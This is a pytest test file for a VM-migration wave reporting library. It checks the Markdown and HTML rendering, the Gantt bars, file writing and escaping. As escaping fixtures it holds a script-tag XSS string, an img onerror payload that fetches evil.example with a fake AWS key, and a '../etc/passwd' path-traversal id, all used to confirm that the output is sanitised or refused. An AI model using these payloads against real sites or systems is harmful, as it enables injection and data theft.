"""The wave report's Markdown and HTML, rendered from hand-built waves."""

from __future__ import annotations

import re
import time
from datetime import timedelta
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from pydantic import ValidationError

from reporting import WaveReport, render_html, render_markdown, write_report
from reporting.gantt import MIN_BAR, tick_step_hours
from reporting.model import as_utc
from reporting.timeline import format_duration, timeline_rows
from tests.reporting.builders import (
    REQUEST_ID,
    START,
    big_report,
    build_report,
    story,
    twelve_vm_report,
    twelve_vm_stories,
)

HOSTILE_NAME = "<script>alert(\"pwn\")</script>' onmouseover='x' & | *db*"
SECRET_NAME = '<img src=x onerror="fetch(`https://evil.example/?k=AKIAIOSFODNN7EXAMPLE`)">passphrase=hunter2'


class _Collector(HTMLParser):
    """Collects start tags with their attributes and checks that the page nests properly."""

    VOID = frozenset({"meta", "br", "img", "input", "link", "hr", "rect", "line"})

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.stack: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in self.VOID:
            return
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes <{self.stack[-1] if self.stack else None}>"
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(page: str) -> _Collector:
    collector = _Collector()
    collector.feed(page)
    collector.close()
    assert collector.stack == [], f"unclosed tags: {collector.stack}"
    return collector


@pytest.fixture(scope="module")
def report() -> WaveReport:
    return twelve_vm_report()


@pytest.fixture(scope="module")
def markdown(report: WaveReport) -> str:
    return render_markdown(report)


@pytest.fixture(scope="module")
def page(report: WaveReport) -> str:
    return render_html(report)


def test_the_built_wave_has_every_outcome(report: WaveReport):
    assert report.summary.counts == {
        "completed": 5,
        "failed": 2,
        "rejected": 2,
        "cancelled": 1,
        "test_completed": 2,
    }
    assert len(report.summary.vms) == 12
    assert len(report.progress) == 11  # one VM was rejected before its orchestration started


# --- Markdown ---------------------------------------------------------------------------------------------------


def test_markdown_header(report: WaveReport, markdown: str):
    assert markdown.startswith(f"# Migration wave `{REQUEST_ID}`\n")
    assert "- **Environment:** test" in markdown
    assert "- **Started:** 2026\\-01\\-05 08:00:00Z" in markdown
    finished = as_utc(report.summary.finished_at).strftime("%H:%M:%SZ")
    assert "- **Finished:** 2026\\-01\\-0" in markdown and finished in markdown
    total = format_duration((report.summary.finished_at - report.summary.started_at).total_seconds())
    assert f"- **Total duration:** {total}" in markdown
    assert "- **Clock:** virtual" in markdown
    assert "- **VMs:** 12" in markdown


def test_markdown_counts_every_terminal_state_with_its_colour(markdown: str):
    line = next(line for line in markdown.splitlines() if "**completed**" in line)
    assert "🟢 **completed**: 5" in line
    assert "🔵 **test\\_completed**: 2" in line
    assert "🟡 **rejected**: 2" in line
    assert "🔴 **failed**: 2" in line
    assert "⚪ **cancelled**: 1" in line


def test_markdown_vm_table_has_a_row_per_vm(report: WaveReport, markdown: str):
    section = markdown.split("## VMs")[1].split("## Where each VM landed", maxsplit=1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `i-")]
    assert len(rows) == 12
    first = rows[0].split(" | ")
    vm = report.summary.vms[0]
    assert first[0] == f"| `{vm.instance_id}`"  # an id as a code span, not backslash-escaped
    assert first[2] == "az\\-fin\\-app\\-01"
    assert first[3] == "completed"
    assert first[5] == "alice@contoso.com"
    assert first[6] == "warning |"
    failed = next(row for row in rows if " failed " in row)
    assert failed.count("|") == 8


def test_markdown_timeline_summarises_time_per_stage(markdown: str):
    section = markdown.split("## Timeline")[1].split("## Rejections", maxsplit=1)[0]
    assert "across 11 VMs" in section
    replication = next(line for line in section.splitlines() if line.startswith("| initial\\_replication"))
    # 8 VMs replicated 14 h in full, the cancelled one 7 h: 119 h in all.
    assert replication == "| initial\\_replication | 9 | 14 h 00 min | 14 h 00 min | 4 d 23 h |"
    assert "1 VM(s) never started" in section


def test_markdown_rejections_list_every_reason(markdown: str):
    section = markdown.split("## Rejections")[1].split("## Failures", maxsplit=1)[0]
    assert section.count("### `i-0a") == 2
    assert section.count("Amazon Linux 2 is not supported by Azure Site Recovery") == 2
    assert section.count("not managed by SSM") == 2
    assert section.count("root volume is gp3 at 95 % used") == 2


def test_markdown_failures_have_step_code_and_cause(markdown: str):
    section = markdown.split("## Failures")[1].split("## Rolled back", maxsplit=1)[0]
    assert "| test\\_migrating | TestFailoverJobFailed | no | Test failover job 'tfo\\-7731' failed" in section
    assert "no free IP address" in section
    assert "| installing\\_agent | CommandFailed | no | Mobility agent installer exited with code 1603 |" in section


def test_markdown_lists_what_was_rolled_back_per_vm(markdown: str):
    section = markdown.split("## Rolled back / reverted")[1].split("## Events", maxsplit=1)[0]
    assert "(failed):\n  - test failover cleaned up (test VM az\\-test deleted)" in section.replace("\\(", "(").replace(
        "\\)", ")"
    )
    assert "  - replication disabled" in section
    assert "  - guest preparation reverted" in section
    assert section.count("test VM removed after the rehearsal") == 2


def test_markdown_events_section(report: WaveReport, markdown: str):
    section = markdown.split("## Events")[1]
    state_changes = sum(1 for event in report.events if event.type.value == "vm.state_changed")
    assert f"| vm.state\\_changed | {state_changes} |" in section
    assert "| wave.started | 1 |" in section
    assert "| vm.health\\_degraded | 2 |" in section
    assert "### Health degradations" in section
    assert "| healthy | critical | RPO 4000 s is above the critical threshold |" in section


# --- HTML -------------------------------------------------------------------------------------------------------


def test_html_is_well_formed_and_self_contained(page: str):
    parsed = parse(page)
    tags = {tag for tag, _ in parsed.tags}
    assert "script" not in tags
    assert not {"link", "img", "iframe", "object", "embed"} & tags
    for _, attrs in parsed.tags:
        for key, value in attrs.items():
            assert not key.startswith("on"), key
            if key in {"src", "href"}:
                raise AssertionError(f"external reference {key}={value}")
    assert (
        "@import" not in page
        and "url(" not in page
        and "http://" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")
    )


def test_html_header_and_counts(page: str, report: WaveReport):
    parsed = parse(page)
    counts = {attrs["data-state"]: attrs for tag, attrs in parsed.tags if tag == "div" and "data-state" in attrs}
    assert set(counts) == {"completed", "test_completed", "rejected", "failed", "cancelled"}
    assert "background:#c62828" in (counts["failed"]["style"] or "")
    assert "background:#2e7d32" in (counts["completed"]["style"] or "")
    assert '<span class="n">5</span>completed' in page
    assert '<span class="n">2</span>failed' in page
    assert f"<code>{REQUEST_ID}</code>" in page
    assert "<dt>Environment</dt><dd>test</dd>" in page
    assert "<dt>Started</dt><dd>2026-01-05 08:00:00Z</dd>" in page


def test_html_vm_table_has_a_row_per_vm_with_its_state(page: str, report: WaveReport):
    parsed = parse(page)
    rows = {attrs["id"]: attrs["data-state"] for tag, attrs in parsed.tags if tag == "tr" and "id" in attrs}
    assert rows == {f"vm-{vm.instance_id}": vm.state.value for vm in report.summary.vms}
    assert page.count("alice@contoso.com") == 5
    assert 'title="RPO above the critical threshold"' in page


def test_html_gantt_draws_every_stage_of_every_started_vm(page: str, report: WaveReport):
    parsed = parse(page)
    groups = [attrs["data-instance"] for tag, attrs in parsed.tags if tag == "g" and attrs.get("class") == "vm"]
    assert len(groups) == 11
    stage_bars = [attrs for tag, attrs in parsed.tags if tag == "rect" and attrs.get("class") == "stage"]
    expected = sum(
        1 for record in report.progress for stage in record.stages if stage.state.value not in report.summary.counts
    )
    assert len(stage_bars) == expected
    outcomes = [attrs["data-state"] for tag, attrs in parsed.tags if tag == "rect" and attrs.get("class") == "outcome"]
    assert sorted(outcomes) == sorted(record.state.value for record in report.progress)
    assert "hours of migration time since the wave started (virtual clock)" in page
    assert re.search(r'<text class="tick"[^>]*>12 h</text>', page)
    legend = page.split('<div class="legend">')[1].split("</div>", maxsplit=1)[0]
    for state in ("initial_replication", "preparing_guest", "awaiting_approval", "cleaning_up_test"):
        assert f"</span>{state}</span>" in legend
    assert "failed (outcome)" in legend


def test_short_stages_stay_visible_and_bars_do_not_overlap(page: str):
    for group in re.findall(r'<g class="vm".*?</g>', page):
        bars = [
            (float(x), float(width))
            for x, width in re.findall(r'<rect class="stage"[^>]* x="([\d.]+)"[^>]* width="([\d.]+)"', group)
        ]
        assert bars
        assert all(width >= MIN_BAR - 0.05 for _, width in bars), bars
        for (x, width), (next_x, _) in pairwise(bars):
            assert next_x >= x + width - 0.11, (x, width, next_x)
    # The 14 h replication dominates: its bar is far wider than the preflight's.
    widths = dict(re.findall(r'data-state="(\w+)" x="[\d.]+" y="[\d.]+" width="([\d.]+)"', page.split("<g ")[1]))
    assert float(widths["initial_replication"]) > 40 * float(widths["preflight"])


def test_html_rejections_failures_rollbacks_and_events(page: str):
    parsed = parse(page)
    rejections = [attrs for tag, attrs in parsed.tags if tag == "div" and attrs.get("class") == "rejection"]
    assert len(rejections) == 2
    assert page.count("<li>NotSsmManaged: the instance is not managed by SSM (no agent ping in 24 h)</li>") == 2
    failures = page.split('<table class="failures">')[1].split("</table>", maxsplit=1)[0]
    assert "<td>test_migrating</td><td>TestFailoverJobFailed</td><td>no</td>" in failures
    assert "Test failover job &#x27;tfo-7731&#x27; failed" in failures
    rolled = page.split('<table class="rolled-back">')[1].split("</table>", maxsplit=1)[0]
    assert rolled.count("<tr>") == 1 + 2 + 1 + 2  # header, two failures, the cancelled VM, two rehearsals
    assert "<li>replication disabled</li>" in rolled
    events = page.split('<h2 id="events">')[1]
    assert "<td>vm.health_degraded</td><td>2</td>" in events
    assert "RPO 1200 s is above the warning threshold" in events


# --- escaping ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [HOSTILE_NAME, SECRET_NAME], ids=["script-and-quotes", "fake-secret"])
def test_user_strings_are_escaped_everywhere(name: str):
    report = twelve_vm_report(special_name=name)
    page = render_html(report)
    parsed = parse(page)
    assert "script" not in {tag for tag, _ in parsed.tags}
    assert "img" not in {tag for tag, _ in parsed.tags}
    assert not any(key.startswith("on") for _, attrs in parsed.tags for key in attrs)
    assert name not in page
    assert "&lt;" in page
    # The text survives, as text: the table cell, the Gantt label's tooltip and the bars' tooltips show it.
    assert sum(chunk.count(name) for chunk in parsed.text) >= 3
    markdown = render_markdown(report)
    assert "<script" not in markdown and "<img" not in markdown
    assert "&lt;" in markdown
    row = next(line for line in markdown.splitlines() if "az\\-" in line and "&lt;" in line)
    assert row.count(" | ") == 6, "a | in a name must not add a column"


def test_newlines_in_messages_do_not_break_markdown_tables():
    stories = twelve_vm_stories()
    failed = stories[5]
    assert failed.error is not None
    failed.error = failed.error.model_copy(update={"message": "line one\n| injected | row |\nline three"})
    from tests.reporting.builders import build_report

    markdown = render_markdown(build_report(stories))
    section = markdown.split("## Failures")[1].split("## Rolled back")[0]
    assert "line one \\| injected \\| row \\| line three" in section


# --- model and files --------------------------------------------------------------------------------------------


def test_write_report_writes_both_files(tmp_path, report: WaveReport):
    markdown_path, html_path = write_report(report, tmp_path / "reports")
    assert markdown_path == tmp_path / "reports" / f"{REQUEST_ID}.md"
    assert html_path == tmp_path / "reports" / f"{REQUEST_ID}.html"
    assert markdown_path.read_text(encoding="utf-8") == render_markdown(report)
    assert html_path.read_text(encoding="utf-8") == render_html(report)


def test_write_report_refuses_a_request_id_that_is_not_a_file_name(tmp_path, report: WaveReport):
    bad = report.model_copy(update={"summary": report.summary.model_copy(update={"request_id": "../etc/passwd"})})
    with pytest.raises(ValueError, match=r"request id '\.\./etc/passwd' cannot name a report file"):
        write_report(bad, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_report_refuses_progress_of_another_wave(report: WaveReport):
    stray = report.progress[0].model_copy(update={"request_id": "another-wave"})
    with pytest.raises(ValidationError, match="belongs to request 'another-wave'"):
        WaveReport(summary=report.summary, progress=[stray], generated_at=START)
    with pytest.raises(ValidationError, match="a second progress record for"):
        WaveReport(summary=report.summary, progress=[report.progress[0]] * 2, generated_at=START)
    with pytest.raises(ValidationError, match="clock"):
        WaveReport(summary=report.summary, generated_at=START, clock="sundial")  # type: ignore[arg-type]


def test_from_run_keeps_this_waves_latest_progress_and_events(report: WaveReport):
    older = report.progress[0].model_copy(update={"updated_at": START, "state": "queued"})
    other_wave = report.progress[1].model_copy(update={"request_id": "another-wave"})
    foreign_event = report.events[0].model_copy(update={"request_id": "another-wave", "event_id": "x"})
    built = WaveReport.from_run(
        report.summary,
        [older, *report.progress, other_wave],
        [foreign_event, *reversed(report.events)],
        environment="dev",
        clock="wall",
        generated_at=START,
    )
    assert built.progress == report.progress
    assert built.events == sorted(report.events, key=lambda event: (event.at, event.event_id))
    assert "(wall clock)" in render_html(built)


def test_a_vm_still_running_gets_an_open_bar_to_the_end_of_the_wave():
    running = story(1, "completed").progress
    assert running is not None
    cut = running.model_copy(
        update={"stages": running.stages[:9], "state": running.stages[8].state, "updated_at": running.stages[8].at}
    )
    stories = twelve_vm_stories()
    from tests.reporting.builders import build_report

    report = build_report(stories)
    report = report.model_copy(update={"progress": [cut, *report.progress[1:]]})
    row = next(item for item in timeline_rows(report) if item.row.result.instance_id == cut.instance_id)
    assert row.outcome is None
    assert row.segments[-1].state.value == "replicating"
    assert row.segments[-1].ended_at == as_utc(report.summary.vms[0].finished_at)


def test_tick_steps_give_readable_hour_labels():
    assert tick_step_hours(0.5) == 1 / 12
    assert tick_step_hours(20) == 2
    assert tick_step_hours(60) == 6
    assert tick_step_hours(24 * 30) == 72


def test_thousand_vms_stay_small_and_cap_the_gantt(tmp_path):
    report = big_report(1000)
    began = time.perf_counter()
    page = render_html(report)
    markdown = render_markdown(report)
    elapsed = time.perf_counter() - began
    size = len(page.encode("utf-8"))
    assert size < 5 * 1024 * 1024, f"HTML is {size / 1e6:.1f} MB for 1,000 VMs"
    assert elapsed < 10, f"rendering 1,000 VMs took {elapsed:.1f} s"
    assert page.count('<tr id="vm-') == 1000
    assert page.count('<g class="vm"') == 200
    assert "The chart shows the first 200 of" in page
    vms = markdown.split("## VMs")[1].split("## Where each VM landed", maxsplit=1)[0]
    assert vms.count("\n| `i-0a") == 1000
    assert "i\\-0a" not in markdown
    parse(page)


def test_render_html_refuses_a_non_positive_row_cap(report: WaveReport):
    with pytest.raises(ValueError, match="max_gantt_rows must be at least 1, got 0"):
        render_html(report, max_gantt_rows=0)


def test_a_wave_with_no_progress_at_all_still_renders(report: WaveReport):
    empty = WaveReport(summary=report.summary, generated_at=START + timedelta(days=2))
    page = render_html(empty)
    assert "No VM recorded a timeline." in page
    assert "12 VM(s) never started" in page
    assert "No events recorded." in page
    parse(page)
    assert "No VM recorded a timeline." in render_markdown(empty)


# --- where each VM landed, what to do next, the request's environment -------------------------------------------


def test_markdown_says_where_each_vm_landed(report: WaveReport, markdown: str):
    section = markdown.split("## Where each VM landed")[1].split("## Timeline", maxsplit=1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `i-")]
    assert len(rows) == 12
    landed = next(vm for vm in report.summary.vms if vm.state.value == "completed")
    row = next(line for line in rows if landed.instance_id in line).split(" | ")
    assert landed.landing is not None
    assert row[2:5] == [landed.landing.subscription_id.replace("-", "\\-"), "rg\\-finance", "westeurope, zone 1"]
    assert "Premium\\_LRS" in row[6] and "10.0.1." in row[7] and "vnet\\-prod/apps" in row[7]
    rejected = next(vm for vm in report.summary.vms if vm.state.value == "rejected")
    assert any(rejected.instance_id in line and "not enabled" not in line for line in rows)


def test_every_failed_or_rejected_vm_has_a_next_step(report: WaveReport, markdown: str, page: str):
    section = markdown.split("## Next steps")[1].split("## Events", maxsplit=1)[0]
    needing = [vm for vm in report.summary.vms if vm.state.value in {"failed", "rejected", "cancelled"}]
    assert needing
    for vm in needing:
        line = next(line for line in section.splitlines() if f"`{vm.instance_id}`" in line)
        assert "new request" in line
    for vm in report.summary.vms:
        if vm.state.value == "completed":
            assert f"`{vm.instance_id}`" not in section
    assert 'id="next-steps"' in page and 'id="landing"' in page


def test_the_request_environment_is_shown_with_where_it_ran():
    report = build_report(twelve_vm_stories(), environment="local", request_environment="prod")
    assert "- **Environment:** prod \\(run on local\\)" in render_markdown(report)
    assert "prod (run on local)" in render_html(report)
